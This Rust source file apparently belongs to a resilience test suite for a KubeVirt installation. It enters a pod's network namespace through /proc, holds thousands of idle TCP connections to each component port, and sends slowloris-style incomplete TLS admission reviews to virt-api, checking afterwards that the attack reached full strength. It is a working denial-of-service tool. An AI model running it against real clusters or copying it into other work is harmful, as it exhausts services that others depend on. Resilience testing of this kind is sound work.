//! An attack from the pod network: one pod opens silent connections to each port of the installation, and sends incomplete
//! reviews.

use std::{
    fs::{self, File},
    net::SocketAddr,
    os::fd::AsFd,
    process::Command,
    sync::{
        Arc,
        atomic::{AtomicUsize, Ordering},
    },
    thread::JoinHandle,
    time::Duration,
};

use anyhow::{Context, Result, anyhow, ensure};
use kube::api::ListParams;
use rustix::thread::{LinkNameSpaceType, move_into_link_name_space};
use rustls_pki_types::ServerName;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
    sync::oneshot,
    time::{sleep, timeout},
};
use tokio_rustls::TlsConnector;

use crate::{environment::own_cluster, story::Story, webhook};

/// Number of silent connections to each port.
const SILENT: usize = 1000;
/// Number of incomplete reviews to each virt-api, and their length.
const STALLED: usize = 16;
const BODY: usize = 1 << 20;
/// Number of files that the process needs.
const FILES: usize = 16 << 10;
/// Pause before a closed connection is reopened. The attacker shares the processors of the cluster, and held connections are
/// measured, not the cost of opening them.
const PAUSE: Duration = Duration::from_secs(5);
/// Pause before an incomplete review is repeated.
const REVIEW_PAUSE: Duration = Duration::from_secs(1);
/// Time limit for opening a connection or sending a body.
const TIMEOUT: Duration = Duration::from_secs(10);

/// A running attack.
pub struct Flood {
    stop: oneshot::Sender<()>,
    thread: JoinHandle<Result<()>>,
    ports: usize,
    opened: Arc<AtomicUsize>,
    stalled: Arc<AtomicUsize>,
}

/// Extent of an attack.
#[derive(Clone, Copy, Debug)]
pub struct Extent {
    /// Number of attacked ports.
    pub ports: usize,
    /// Number of opened silent connections.
    pub opened: usize,
    /// Number of incomplete reviews.
    pub stalled: usize,
}

impl Story {
    /// Attacks all pods of the installation from a pod of this name. Returns `None` if the nodes are not on this host.
    ///
    /// # Errors
    /// Fails if the pod does not start.
    pub async fn flood(&self, pod: &str) -> Result<Option<Flood>> {
        if own_cluster()?.is_none() {
            return Ok(None);
        }
        self.toolbox(pod).await?;
        let attacker = self.get("Pod", pod).await?;
        let uid = attacker["metadata"]["uid"].as_str().context("pod without uid")?;
        let namespace = network_of(uid)?;
        let (mut silent, mut stalled) = (Vec::new(), Vec::new());
        for (component, ports) in
            [("virt-api", [8443].as_slice()), ("virt-controller", &[8443]), ("virt-handler", &[8443, 8186, 8187])]
        {
            let labels = ListParams::default().labels(&format!("kubevirt.io={component}"));
            for pod in self.installation_api("Pod").list(&labels).await? {
                let address = pod.data["status"]["podIP"].as_str().context("a component has no address")?.parse()?;
                let addresses = ports.iter().map(|port| SocketAddr::new(address, *port));
                if component == "virt-api" {
                    stalled.extend(addresses.clone());
                }
                silent.extend(addresses);
            }
        }
        Flood::start(namespace, &silent, &stalled).map(Some)
    }
}

impl Flood {
    fn start(namespace: File, silent: &[SocketAddr], stalled: &[SocketAddr]) -> Result<Self> {
        allow_files()?;
        let (stop, stopped) = oneshot::channel();
        let opened = Arc::new(AtomicUsize::new(0));
        let began = Arc::new(AtomicUsize::new(0));
        let tls = TlsConnector::from(Arc::new(webhook::tls(None)?));
        let (ports, targets, reviewers) = (silent.len(), silent.to_vec(), stalled.to_vec());
        let counters = (opened.clone(), began.clone());
        // The thread and its sockets stay in the network namespace of the pod.
        let thread = std::thread::spawn(move || {
            move_into_link_name_space(namespace.as_fd(), Some(LinkNameSpaceType::Network))
                .context("cannot enter the pod's network")?;
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
            runtime.block_on(async {
                for address in targets {
                    for number in 0..SILENT {
                        tokio::spawn(hold_silent(address, number, counters.0.clone()));
                    }
                }
                for address in reviewers {
                    for _ in 0..STALLED {
                        tokio::spawn(stall(address, tls.clone(), counters.1.clone()));
                    }
                }
                // An error means that the handle was dropped.
                let _ = stopped.await;
            });
            Ok(())
        });
        Ok(Self { stop, thread, ports, opened, stalled: began })
    }

    /// Ends the attack.
    ///
    /// # Errors
    /// Fails if it could not start.
    pub fn stop(self) -> Result<Extent> {
        // The thread may have ended with an error.
        let _ = self.stop.send(());
        self.thread.join().map_err(|_| anyhow!("the attacking thread panicked"))??;
        Ok(Extent {
            ports: self.ports,
            opened: self.opened.load(Ordering::Relaxed),
            stalled: self.stalled.load(Ordering::Relaxed),
        })
    }
}

impl Extent {
    /// Checks that the attack had its full extent.
    ///
    /// # Errors
    /// Fails unless every connection was opened once.
    pub fn check(self) -> Result<()> {
        ensure!(self.ports > 0 && self.opened >= SILENT * self.ports && self.stalled >= STALLED, "{self:?}");
        Ok(())
    }
}

/// Opens a connection and waits until the server closes it, repeatedly.
async fn hold_silent(address: SocketAddr, number: usize, opened: Arc<AtomicUsize>) {
    // Spread over two seconds: a burst would overflow the accept queue of an idle server.
    sleep(Duration::from_millis(2 * number as u64)).await;
    loop {
        if let Ok(Ok(mut stream)) = timeout(TIMEOUT, TcpStream::connect(address)).await {
            opened.fetch_add(1, Ordering::Relaxed);
            let _ = stream.read(&mut [0]).await;
        }
        sleep(PAUSE).await;
    }
}

/// Sends a review without its last byte and waits until the server closes the connection, repeatedly.
async fn stall(address: SocketAddr, tls: TlsConnector, began: Arc<AtomicUsize>) {
    loop {
        let sent = timeout(TIMEOUT, begin_review(address, &tls)).await;
        if let Ok(Ok(mut stream)) = sent {
            began.fetch_add(1, Ordering::Relaxed);
            let _ = stream.read(&mut [0]).await;
        }
        sleep(REVIEW_PAUSE).await;
    }
}

async fn begin_review(address: SocketAddr, tls: &TlsConnector) -> Result<tokio_rustls::client::TlsStream<TcpStream>> {
    let stream = TcpStream::connect(address).await?;
    let mut stream = tls.connect(ServerName::from(address.ip()), stream).await?;
    let head = format!(
        "POST /virtualmachines-validate HTTP/1.1\r\nhost: virt-api\r\ncontent-type: application/json\r\ncontent-length: {BODY}\r\n\r\n"
    );
    stream.write_all(head.as_bytes()).await?;
    // The server may refuse it early and close the connection.
    let _ = stream.write_all(&vec![b' '; BODY - 1]).await;
    let _ = stream.flush().await;
    Ok(stream)
}

/// Returns the network namespace of a pod on this host by the pod's UID.
fn network_of(uid: &str) -> Result<File> {
    for process in fs::read_dir("/proc")? {
        let path = process?.path();
        let here = fs::read_to_string(path.join("cgroup")).is_ok_and(|cgroup| cgroup.contains(uid));
        if here && let Ok(namespace) = File::open(path.join("ns/net")) {
            return Ok(namespace);
        }
    }
    Err(anyhow!("no process of pod {uid} on this host"))
}

/// Raises the limit of open files as far as the attack requires.
fn allow_files() -> Result<()> {
    let status = Command::new("prlimit")
        .args(["--pid", &std::process::id().to_string(), &format!("--nofile={FILES}:")])
        .status()
        .context("cannot run prlimit")?;
    // The existing limit may suffice.
    if !status.success() {
        println!("prlimit: {status}");
    }
    Ok(())
}
